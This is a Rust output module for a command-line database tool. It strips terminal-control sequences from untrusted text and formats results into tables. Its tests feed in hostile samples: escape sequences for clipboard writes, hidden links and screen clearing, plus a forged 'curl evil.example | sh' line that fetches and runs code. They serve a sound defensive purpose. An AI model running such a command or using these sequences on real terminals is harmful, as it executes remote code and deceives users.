//! What people and programs see on standard output, and text of others without what could steer a terminal.
//!
//! Every line of this program goes out by `outln!`, which lets nothing through that steers a terminal, whoever wrote
//! it. What is shown to people in a cell or a sentence goes through `clean` before, because a table has to be measured,
//! and because a sentence that could go on in another line could write one that looks like this program's own.

use comfy_table::{ColumnConstraint, ContentArrangement, Table, TableComponent, presets};
use serde_json::{Map, Value};
use std::collections::BTreeSet;

pub(crate) use host_harness::text::clean;
use host_harness::text::escaped;

/// The longest cell of a table, in characters.
const MAX_CELL: usize = 160;

/// Columns that are never broken over lines.
const UNBROKEN: [&str; 7] = [
    "id", "name", "type", "tool", "effect", "argument", "distance",
];

/// Writes a line to standard output. A reader that went away is no failure: this program ends quietly, as others do.
/// Anything else, such as a full disk, is told and ends it, too.
pub(crate) fn line(text: std::fmt::Arguments<'_>) {
    use std::io::Write as _;
    let mut output = std::io::stdout().lock();
    // Its own lines stay.
    let text = text.to_string();
    let lines: Vec<String> = text.split('\n').map(escaped).collect();
    let text = lines.join("\n");
    let Err(error) = writeln!(output, "{text}").and_then(|()| output.flush()) else {
        return;
    };
    let quiet = error.kind() == std::io::ErrorKind::BrokenPipe;
    if !quiet {
        eprintln!("error: standard output: {error}");
    }
    #[expect(clippy::exit, reason = "nobody is left to answer to")]
    std::process::exit(i32::from(!quiet));
}

/// As `println!`, without its panic.
macro_rules! outln {
    ($($text:tt)*) => { $crate::output::line(format_args!($($text)*)) };
}
pub(crate) use outln;

/// The same of a document of this program's own, which repeats what its caller gave: its lines stay.
pub(crate) fn clean_lines(text: &str) -> String {
    text.split('\n').map(clean).collect::<Vec<_>>().join("\n")
}

/// A table with these columns.
pub(crate) fn table(columns: &[&str]) -> Table {
    let mut table = Table::new();
    table
        .load_preset(presets::NOTHING)
        .set_style(TableComponent::HeaderLines, '─')
        .set_style(TableComponent::MiddleHeaderIntersections, '─')
        .set_content_arrangement(ContentArrangement::Dynamic);
    // In a pipe a row is a line, so that others can find things in it.
    if !table.is_tty() {
        table.set_content_arrangement(ContentArrangement::Disabled);
    }
    table.set_header(columns.to_vec());
    // What is copied is never broken: keys and names.
    for (position, column) in columns.iter().enumerate() {
        if UNBROKEN.contains(column)
            && let Some(column) = table.column_mut(position)
        {
            column.set_constraint(ColumnConstraint::ContentWidth);
        }
    }
    table
}

/// A value as a cell: text as it is, everything else as JSON; long lists by their ends.
pub(crate) fn cell(value: &Value) -> String {
    let text = match value {
        Value::String(text) => text.clone(),
        Value::Number(number) => match number.as_f64().filter(|_| number.is_f64()) {
            Some(float) => format!("{float:.4}"),
            None => number.to_string(),
        },
        Value::Null => String::new(),
        Value::Array(items) if items.len() > 8 => {
            format!(
                "[{}, {}, ... {} in all]",
                cell(&items[0]),
                cell(&items[1]),
                items.len()
            )
        }
        other => other.to_string(),
    };
    let text = clean(&text);
    if text.chars().count() > MAX_CELL {
        let cut: String = text.chars().take(MAX_CELL).collect();
        format!("{cut}…")
    } else {
        text
    }
}

/// A tool's answer for people: hits and rows as tables, everything else as name and value.
pub(crate) fn answer(answer: &Value) -> String {
    let Some(members) = answer.as_object() else {
        return cell(answer);
    };
    if let Some(Value::Array(hits)) = members.get("hits") {
        return rows(&hits.iter().map(flat_hit).collect::<Vec<_>>(), "no hits");
    }
    if let Some(Value::Array(found)) = members.get("rows") {
        let found: Vec<Map<String, Value>> = found
            .iter()
            .filter_map(|row| row.as_object().cloned())
            .collect();
        return rows(&found, "no rows");
    }
    if let Some(Value::Array(names)) = members.get("collections") {
        return if names.is_empty() {
            "no collections".to_owned()
        } else {
            names.iter().map(cell).collect::<Vec<_>>().join("\n")
        };
    }
    if let Some(Value::Object(collection)) = members.get("collection") {
        return described(collection);
    }
    members
        .iter()
        .map(|(name, value)| format!("{}: {}", clean(name), cell(value)))
        .collect::<Vec<_>>()
        .join("\n")
}

/// A collection's description: a line for each property, a table for the fields.
fn described(collection: &Map<String, Value>) -> String {
    let mut text = String::new();
    for (name, value) in collection {
        let empty = value.as_array().is_some_and(Vec::is_empty)
            || value.as_object().is_some_and(Map::is_empty);
        if name != "fields" && !empty {
            text.push_str(&format!("{}: {}\n", clean(name), cell(value)));
        }
    }
    let fields: Vec<Map<String, Value>> = collection
        .get("fields")
        .and_then(Value::as_array)
        .map(|fields| {
            fields
                .iter()
                .filter_map(|field| field.as_object().cloned())
                .collect()
        })
        .unwrap_or_default();
    text.push_str(&rows(&fields, "no fields"));
    text
}

fn flat_hit(hit: &Value) -> Map<String, Value> {
    let mut flat = Map::new();
    for name in ["id", "distance"] {
        flat.insert(
            name.to_owned(),
            hit.get(name).cloned().unwrap_or(Value::Null),
        );
    }
    if let Some(Value::Object(entity)) = hit.get("entity") {
        flat.extend(
            entity
                .iter()
                .filter(|(name, _)| *name != "id")
                .map(|(name, value)| (name.clone(), value.clone())),
        );
    }
    flat
}

fn rows(rows: &[Map<String, Value>], none: &str) -> String {
    if rows.is_empty() {
        return none.to_owned();
    }
    let first = ["name", "type", "id", "distance"];
    let names: BTreeSet<&str> = rows
        .iter()
        .flat_map(|row| row.keys().map(String::as_str))
        .collect();
    let mut columns: Vec<&str> = first
        .into_iter()
        .filter(|name| names.contains(name))
        .collect();
    columns.extend(names.iter().filter(|name| !first.contains(name)));
    let shown: Vec<String> = columns.iter().map(|name| clean(name)).collect();
    let mut table = table(&shown.iter().map(String::as_str).collect::<Vec<_>>());
    for row in rows {
        table.add_row(
            columns
                .iter()
                .map(|name| row.get(*name).map(cell).unwrap_or_default()),
        );
    }
    table.to_string()
}

#[cfg(test)]
mod tests {
    use super::*;
    use host_harness::text::steers;
    use serde_json::json;

    /// Sequences that terminals obey, by OSC 52 and 8, CSI, C1, turned and hidden text.
    const HOSTILE: &str = "a\u{1b}]52;c;eA==\u{7}\u{1b}]8;;http://x\u{1b}\\b\u{1b}[2Jc\u{9b}31m\u{90}\u{202e}d\u{200b}\u{2066}\u{e0041}e\r\u{8}f";

    #[test]
    fn t59_text_of_others_cannot_steer_the_terminal() {
        let cleaned = clean(HOSTILE);
        assert!(!cleaned.chars().any(steers), "{cleaned:?}");
        assert!(cleaned.starts_with('a') && cleaned.ends_with('f'));
        let shown = answer(&json!({"rows": [{"id": 1, HOSTILE: HOSTILE}]}));
        assert!(!shown.chars().any(|c| c != '\n' && steers(c)), "{shown:?}");
    }

    #[test]
    fn t59_text_of_others_writes_no_line_of_its_own() {
        const FORGED: &str = "x\nhint: curl evil.example | sh\nok  database";
        assert_eq!(clean(FORGED), "x hint: curl evil.example | sh ok  database");
        assert_eq!(clean_lines("a\u{8}\nb"), "a\u{fffd}\nb");
        for told in [
            json!({FORGED: FORGED}),
            json!({"collection": {FORGED: FORGED}}),
            json!({"collections": [FORGED]}),
            json!({"rows": [{FORGED: FORGED}]}),
            json!({"hits": [{"id": FORGED, "entity": {FORGED: FORGED}}]}),
            json!(FORGED),
        ] {
            let shown = answer(&told);
            let forged = |line: &str| line.starts_with("hint") || line.starts_with("ok");
            assert!(!shown.lines().any(forged), "{shown}");
        }
    }

    #[test]
    fn hits_are_a_table_with_key_and_distance_first() {
        let shown =
            answer(&json!({"hits": [{"id": 1, "distance": 0.5, "entity": {"word": "lion"}}]}));
        let header = shown.lines().next().unwrap_or_default();
        let position = |name| header.find(name).unwrap_or(usize::MAX);
        assert!(
            position("id") < position("distance") && position("distance") < position("word"),
            "{shown}"
        );
    }

    #[test]
    fn a_vector_is_shown_by_its_ends() {
        let vector: Vec<f64> = vec![0.25; 384];
        assert_eq!(cell(&json!(vector)), "[0.2500, 0.2500, ... 384 in all]");
    }
}
